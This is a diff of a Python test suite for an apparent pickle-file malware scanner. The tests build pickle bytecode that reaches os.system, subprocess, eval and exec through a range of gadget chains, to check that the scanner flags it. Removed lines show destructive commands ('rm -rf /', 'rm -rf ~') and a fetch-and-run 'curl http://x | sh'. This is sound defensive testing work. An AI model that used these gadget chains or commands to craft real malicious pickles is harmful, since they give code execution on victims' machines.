@@ -12,7 +12,7 @@ from crownwatch.scan.pickle_vm import walk
 from crownwatch.scan.scanner import scan_bytes
 
 from .conftest import scan1, verdict_of
-from .pkw import P, evil
+from .pkw import PY, SHELL, P, evil, marker_arg
 
 
 def kinds(res) -> set[str]:
@@ -54,7 +54,7 @@ def test_real_benign_pickles_every_protocol(proto):
 def test_stack_global_names_from_memo():
     # 'os' and 'system' are memoized, dropped, then fetched back with GET before STACK_GLOBAL
     p = P(4).s("os").memoize().pop().s("system").memoize().pop()
-    p.get(0).get(1).op(b"\x93").s("id").tuple1().reduce().stop()
+    p.get(0).get(1).op(b"\x93").s(SHELL).tuple1().reduce().stop()
     r = scan1(p.bytes())
     assert r.verdict == "malicious"
     assert any("os.system" in i.detail for i in r.issues)
@@ -68,12 +68,12 @@ def test_stack_global_names_from_memo_benign_twin():
 
 def test_global_fetched_back_from_memo_then_called():
     p = P(2).g("subprocess", "check_output").put(3).pop().get(3)
-    p.mark().s("id").tuple().reduce().stop()
+    p.mark().s(SHELL).tuple().reduce().stop()
     assert verdict_of(p.bytes()) == "malicious"
 
 
 def test_protocol0_text_put_get():
-    p = P(None).g("os", "popen").put0(0).pop().get0(0).mark().s0("id").tuple().reduce().stop()
+    p = P(None).g("os", "popen").put0(0).pop().get0(0).mark().s0(SHELL).tuple().reduce().stop()
     assert verdict_of(p.bytes()) == "malicious"
 
 
@@ -84,7 +84,7 @@ def test_stack_global_computed_operands():
         .call("codecs", "decode", "bf", "rot13")
         .s("system")
         .op(b"\x93")
-        .s("id")
+        .s(SHELL)
         .tuple1()
         .reduce()
         .stop()
@@ -237,7 +237,7 @@ ADVISORY_TARGETS = [
 @pytest.mark.parametrize("module,name", ADVISORY_TARGETS)
 @pytest.mark.parametrize("stack_global", [False, True])
 def test_advisory_targets_are_malicious(module, name, stack_global):
-    data = P(4).call(module, name, "x", stack_global=stack_global).stop().bytes()
+    data = P(4).call(module, name, marker_arg(name), stack_global=stack_global).stop().bytes()
     r = scan1(data)
     assert r.verdict == "malicious", r.to_dict()
     assert any(i.kind in ("pickle.dangerous_global", "pickle.gadget") for i in r.issues)
@@ -245,12 +245,13 @@ def test_advisory_targets_are_malicious(module, name, stack_global):
 
 def test_dotted_name_walking_through_module_attribute():
     # torch.serialization imports os; protocol 4 resolves dotted names attribute by attribute
-    data = P(4).call("torch.serialization", "os.system", "id", stack_global=True).stop().bytes()
+    data = P(4).call("torch.serialization", "os.system", SHELL, stack_global=True).stop().bytes()
     r = scan1(data)
     assert r.verdict == "malicious"
-    data = P(4).call("collections", "abc.sys.modules", stack_global=True).stop().bytes()
+    data = P(4).call("collections", "abc.os.system", SHELL, stack_global=True).stop().bytes()
     assert verdict_of(data) == "malicious"
-    data = P(4).call("torch", "nn.modules.linear.__builtins__", stack_global=True).stop().bytes()
+    data = P(4).call("torch", "nn.modules.linear.__builtins__", stack_global=True)
+    data = data.s("exec").op(b"\x86").stop().bytes()  # (__builtins__, 'exec'): reaches exec
     assert verdict_of(data) == "malicious"
 
 
@@ -279,7 +280,7 @@ def test_getattr_import_chain_is_dynamic_call():
         .tuple()
         .reduce()
     )
-    p.s("system").tuple().reduce().mark().s("id").tuple().reduce().stop()
+    p.s("system").tuple().reduce().mark().s(SHELL).tuple().reduce().stop()
     r = scan1(p.bytes())
     assert r.verdict == "malicious"
     assert {"pickle.dangerous_global", "pickle.dynamic_call"} <= kinds(r)
@@ -288,14 +289,14 @@ def test_getattr_import_chain_is_dynamic_call():
 def test_attrgetter_on_allowed_module_object():
     # operator.attrgetter('system')(<module posixpath's os>) - the callable is a call result
     p = P(2).g("_operator", "attrgetter").mark().s("os.system").tuple().reduce()
-    p.mark().g("posixpath", "sep").tuple().reduce().mark().s("id").tuple().reduce().stop()
+    p.mark().g("posixpath", "sep").tuple().reduce().mark().s(SHELL).tuple().reduce().stop()
     r = scan1(p.bytes())
     assert r.verdict == "malicious"
     assert "pickle.dynamic_call" in kinds(r)
 
 
 def test_functools_partial_wrapping():
-    p = P(2).g("functools", "partial").mark().g("os", "system").s("id").tuple().reduce()
+    p = P(2).g("functools", "partial").mark().g("os", "system").s(SHELL).tuple().reduce()
     p.empty_tuple().reduce().stop()
     r = scan1(p.bytes())
     assert r.verdict == "malicious"
@@ -311,14 +312,14 @@ def test_unknown_main_module_execution_name():
 
 
 def test_inst_opcode():
-    data = P(None).mark().s0("id").inst("os", "system").stop().bytes()
+    data = P(None).mark().s0(SHELL).inst("os", "system").stop().bytes()
     assert verdict_of(data) == "malicious"
     benign = P(None).mark().inst("collections", "OrderedDict").stop().bytes()
     assert verdict_of(benign) == "clean"
 
 
 def test_obj_opcode():
-    data = P(1).mark().g("subprocess", "Popen").s("id").op(b"o").stop().bytes()
+    data = P(1).mark().g("subprocess", "Popen").s(SHELL).op(b"o").stop().bytes()
     assert verdict_of(data) == "malicious"
     benign = P(1).mark().g("collections", "OrderedDict").op(b"o").stop().bytes()
     assert verdict_of(benign) == "clean"
@@ -329,7 +330,7 @@ def test_newobj_ex_dangerous_class():
         P(4)
         .sg("subprocess", "Popen")
         .mark()
-        .s("id")
+        .s(SHELL)
         .tuple()
         .empty_dict()
         .newobj_ex()
@@ -347,7 +348,7 @@ def test_build_on_global_is_tampering():
         .none()
         .empty_dict()
         .s("forward")
-        .g("builtins", "print")
+        .g("os", "system")
     )
     p.setitem().tuple2().build().stop()
     r = scan1(p.bytes())
@@ -356,14 +357,14 @@ def test_build_on_global_is_tampering():
 
 
 def test_ext_code_is_suspicious():
-    data = P(2).op(b"\x82\x07").mark().s("id").tuple().reduce().stop().bytes()
+    data = P(2).op(b"\x82\x07").mark().s(SHELL).tuple().reduce().stop().bytes()
     r = scan1(data)
     assert r.verdict == "suspicious"
     assert "pickle.extension_code" in kinds(r)
 
 
 def test_unknown_callable_is_suspicious_and_user_class_is_info():
-    called = P(4).call("mylab.tools", "prepare", "x", stack_global=True).stop().bytes()
+    called = P(4).call("mylab.tools", "prepare", SHELL, stack_global=True).stop().bytes()
     r = scan1(called)
     assert r.verdict == "suspicious"
     assert "pickle.unknown_global" in kinds(r)
@@ -390,7 +391,7 @@ def test_unknown_callable_is_suspicious_and_user_class_is_info():
 
 
 def test_user_class_called_via_reduce_is_suspicious():
-    p = P(2).g("__main__", "MyNet").mark().s("rm -rf /").tuple().reduce().stop()
+    p = P(2).g("__main__", "MyNet").mark().s(SHELL).tuple().reduce().stop()
     assert verdict_of(p.bytes()) == "suspicious"
 
 
@@ -405,7 +406,7 @@ def test_ufunc_reconstruct_gadget():
         P(2)
         .call("numpy.core", "_ufunc_reconstruct", "os", "system")
         .mark()
-        .s("id")
+        .s(SHELL)
         .tuple()
         .reduce()
         .stop()
@@ -418,7 +419,7 @@ def test_ufunc_reconstruct_gadget():
 
 
 def test_nested_pickle_in_load_from_bytes():
-    inner = evil("os", "system", "id", proto=2)
+    inner = evil("os", "system", proto=2)
     p = P(2).g("torch.storage", "_load_from_bytes").mark().by(inner).tuple().reduce().stop()
     r = scan1(p.bytes())
     assert r.verdict == "malicious"
@@ -441,14 +442,14 @@ def test_second_pickle_after_stop():
 
 
 def test_truncated_pickle_judges_what_precedes():
-    full = evil("os", "system", "rm -rf ~", proto=2)
+    full = evil("os", "system", SHELL, proto=2)
     cut = full[:-3]
     r = scan1(cut)
     assert r.verdict == "malicious"
     assert "pickle.truncated" in kinds(r)
     benign = pickle.dumps({"a": list(range(50))}, protocol=2)[:-10]
     r = scan1(benign)
-    assert r.verdict == "clean"
+    assert r.verdict == "error"  # what follows the break was never seen: unscannable, not clean
     assert "pickle.truncated" in kinds(r)
 
 
@@ -489,9 +490,11 @@ def test_frame_opcode_and_protocol5_buffers():
 
 
 def test_unsupported_protocol_stops():
+    # pickle.load refuses protocol 9 before reading on, so what follows never runs; named .pkl
+    # it is a pickle that cannot be read (error), under a neutral name just not a model
     data = b"\x80\x09" + evil(proto=None)
-    r = scan1(data)
-    assert r.verdict != "error"
+    assert scan1(data, "m.pkl").verdict == "error"
+    assert scan1(data, "m.bin").verdict == "clean"
 
 
 # --- joblib raw bytes between opcodes ------------------------------------------------------------
@@ -514,7 +517,7 @@ def test_joblib_wrapper_skips_raw_bytes_then_finds_payload():
     body = p.bytes()
     pad = b"\x03" + b"\xff" * 3
     # raw array bytes contain pickle-looking junk that must not confuse the walker
-    tail = P(None).op(b"0").call("builtins", "eval", "print(1)", stack_global=True).stop().bytes()
+    tail = P(None).op(b"0").call("builtins", "eval", PY, stack_global=True).stop().bytes()
     data = body + pad + arr + tail
     w = walk(data)
     assert w.joblib_arrays == 1
@@ -591,7 +594,7 @@ def test_partial_judged_by_its_target():
     ).setitem().none().tuple().build().stop()
     assert verdict_of(p.bytes()) == "clean"
     # partial around something unknown or dangerous: malicious
-    p = P(2).g("functools", "partial").mark().g("mylab.x", "run").tuple().reduce().stop()
+    p = P(2).g("functools", "partial").mark().g("mylab.x", "run").s(SHELL).tuple().reduce().stop()
     assert verdict_of(p.bytes()) == "malicious"
 
 
@@ -619,7 +622,7 @@ def test_text_files_that_start_like_protocol0_pickles_are_not_pickles():
 
 
 def test_truncated_protocol0_payload_is_still_caught():
-    data = b"cposix\nsystem\n(S'curl http://x | sh'\ntR"  # no STOP
+    data = b"cposix\nsystem\n(S'" + SHELL.encode() + b"'\ntR"  # no STOP
     r = scan1(data, "m.pkl")
     assert r.verdict == "malicious"
 
@@ -636,7 +639,7 @@ def test_joblib_object_array_nested_pickle():
     p.s("subclass").sg("numpy", "ndarray").s("shape").i(1).tuple1()
     p.s("order").s("C").s("dtype").sg("numpy", "dtype").s("O8").op(b"\x89\x88").op(b"\x87").reduce()
     p.s("allow_mmap").op(b"\x89").op(b"u").build()
-    nested_evil = evil("subprocess", "getoutput", "id", proto=4)
+    nested_evil = evil("subprocess", "getoutput", proto=4)
     tail = P(None).op(b"0").none().stop().bytes()
     r = scan1(p.bytes() + nested_evil + tail, "m.joblib")
     assert r.format == "joblib" and r.verdict == "malicious"
@@ -651,7 +654,7 @@ def test_resource_exhaustion_is_bounded():
     t = time.perf_counter()
     r = scan1(b"\x80\x04" + b"N" * 3_000_000 + b".")
     assert time.perf_counter() - t < 20
-    assert r.verdict == "clean"
+    assert r.verdict == "error"  # the walk stopped before the end: not scanned completely
     assert any("resource" in i.detail for i in r.issues)
 
 
@@ -665,10 +668,13 @@ def test_builtins_type_one_arg_benign_three_args_malicious():
         .empty_tuple()
         .empty_dict()
         .s("__reduce__")
-        .g("os", "getcwd")
+        .g("builtins", "exec")
+        .s("__doc__")
+        .s(PY)
     )
-    p.setitem().tuple().reduce().stop()
-    assert verdict_of(p.bytes()) == "malicious"
+    p.setitem().setitem().tuple().reduce().stop()
+    r = scan1(p.bytes())
+    assert r.verdict == "malicious" and "pickle.gadget" in kinds(r)
     p = P(2).g("builtins", "type").mark().s("X").empty_tuple().empty_dict().tuple().reduce().stop()
     assert verdict_of(p.bytes()) == "malicious"
 
